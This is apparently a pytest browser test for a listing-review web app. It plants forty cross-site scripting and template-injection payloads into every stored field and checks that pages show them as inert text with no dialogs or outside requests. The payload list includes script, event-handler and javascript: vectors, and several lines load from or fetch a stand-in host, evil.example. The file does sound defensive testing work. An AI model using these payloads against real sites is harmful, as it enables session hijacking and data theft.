"""What strangers and colleagues write is text: forty payloads, in every field that a page shows."""

import re
from urllib.parse import urlencode

import pytest

from casework import people, verdicts, views
from casework.reasons import Call
from casework.verdicts import Papers, Verdict
from pipeline.base.clock import stamp
from pipeline.contacts import masked
from pipeline.listing import Place, Price, Seller
from tests.desk.conftest import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.timeout(400)]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('//evil.example')</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<div style=background:url(//evil.example/b)>",
    "<div hx-get=/logout hx-trigger=load>",
    "<div hx-on:load=alert(1) hx-on::load=alert(1)>",
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "javascript:alert(1)//",
    "{{7*7}}${7*7}<%= 7*7 %>{% raw %}",
)


def test_nothing_that_anybody_wrote_runs(db, clock, desk, offered, at_desk):
    """No dialog, no report of the policy, no request elsewhere; and each stands there as typed."""
    assert 40 == len(PAYLOADS) == len(set(PAYLOADS))
    people.add(db, "sun", role="supervisor", password=PASSWORD, clock=clock)
    names = _written_everywhere(db, clock, desk.settings, offered)
    page = at_desk("sun")
    said, asked = _watched(page)

    for payload, listing_id in zip(PAYLOADS, names, strict=True):
        page.goto(f"/listings/{listing_id}")
        assert _count(page, payload) >= 10, payload
        page.goto(f"/queue?{_query(payload)}")
        assert payload == page.locator('input[name="words"]').first.input_value()
    for address in ("/queue?status=lawful", "/sources", "/account", "/people", "/log", "/overview"):
        page.goto(address)
        shown = _squeezed(page.locator("main").text_content())
        missing = [each for each in PAYLOADS if _squeezed(masked(each))[:30] not in shown]
        assert len(missing) <= (0 if address in ALL_SHOWN else 39), (address, missing)

    assert [] == said
    assert {desk.address} == {"/".join(url.split("/")[:3]) for url in asked}


ALL_SHOWN = {"/queue?status=lawful", "/sources", "/account", "/people"}
"""Pages on which all forty stand; on the others some do."""


def _watched(page):
    """Return what the page says or asks for that it should not."""
    said, asked = [], []
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: asked.append(request.url))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("console", lambda told: said.append(told.text))
    page.add_init_script(
        "addEventListener('securitypolicyviolation', e => console.error('csp', e.blockedURI))"
    )
    return said, asked


def _written_everywhere(db, clock, settings, offered):
    """Put each payload into every field there is; return the listings' ids."""
    names = []
    settings.own_sources.mkdir(parents=True, exist_ok=True)
    now = stamp(clock.now())
    for number, payload in enumerate(PAYLOADS):
        kept = offered(
            site_id=str(number),
            title=f"出画眉鸟 {payload}",
            text=f"野生画眉，网捕 {payload}",
            url=f"http://seller.example/{payload}",
            price=Price(raw=payload),
            place=Place(raw=payload),
            seller=Seller(name=payload, site_id=payload, url=payload),
            posted_raw=payload,
            tags=(payload,),
            ocr=payload,
        )
        names.append(kept.listing_id)
        verdicts.give(
            db,
            Verdict(
                kept.listing_id,
                Call.LAWFUL,
                "permit_and_mark_checked",
                "sun",
                payload,
                Papers(payload, payload, payload),
            ),
            seen_version=kept.seen_version,
            clock=clock,
        )
        people.add(db, f"p{number}", shown_name=payload, password=PASSWORD, clock=clock)
        _row(db, "runs", _run(number, payload, now))
        _row(db, "api_tokens", _token(number, payload, now))
        _row(db, "webhooks", _hook(payload, now))
        _row(db, "snapshots", _snapshot(number, kept.listing_id, payload, now))
        (settings.own_sources / f"s{number}.yml").write_text(_source(number, payload), "utf-8")
    for payload in PAYLOADS[:5]:
        views.save(db, "sun", payload[: views.LONGEST_NAME], "words=x", clock=clock)
    return names


def _row(db, table, values):
    with db.atomic():
        db.table(table).insert(values)


def _run(number, payload, now):
    return {
        "run_id": f"s{number}-2026-03-10-1",
        "source": f"s{number}",
        "night_on": "2026-03-10",
        "number": 1,
        "asked_by": payload,
        "state": "failed",
        "started_at": now,
        "ended_at": now,
        "cause": payload,
        "because": payload,
    }


def _token(number, payload, now):
    return {
        "token_hash": f"{number}",
        "owner": "sun",
        "label": payload,
        "scopes": '["read"]',
        "made_by": payload,
        "made_at": now,
        "ends_at": "2027-01-01T00:00:00.000000Z",
    }


def _hook(payload, now):
    return {
        "owner": "sun",
        "url": payload,
        "secret": "x",
        "score_from": 80,
        "made_at": now,
        "state": "dead",
        "because": payload,
        "state_at": now,
    }


def _snapshot(number, listing_id, payload, now):
    return {
        "snapshot_id": f"20260310T010000Z-{number:08x}",
        "chain_number": number + 1,
        "listing_id": listing_id,
        "url": payload,
        "state": "failed",
        "page": payload,
        "reason": payload,
        "is_complete": 0,
        "taken_at": now,
        "took_seconds": 1.0,
        "manifest_sha256": "",
        "manifest_sm3": "",
        "asked_by": payload,
    }


def _source(number, payload):
    told = payload.replace("'", "''")
    return (
        f"key: s{number}\nname: '{told}'\nenabled: true\nbasis: '{told}'\nbase_url: '{told}'\n"
        f"every: '{told[:5].rstrip(chr(39))}'\nneeds: {{note: '{told}'}}\n"
    )


def _count(page, payload):
    return _squeezed(page.locator("main").text_content()).count(_squeezed(masked(payload))[:30])


def _squeezed(text):
    return re.sub(r"\s+", "", text)


def _query(payload):
    return urlencode({"words": payload, "status": "lawful"})
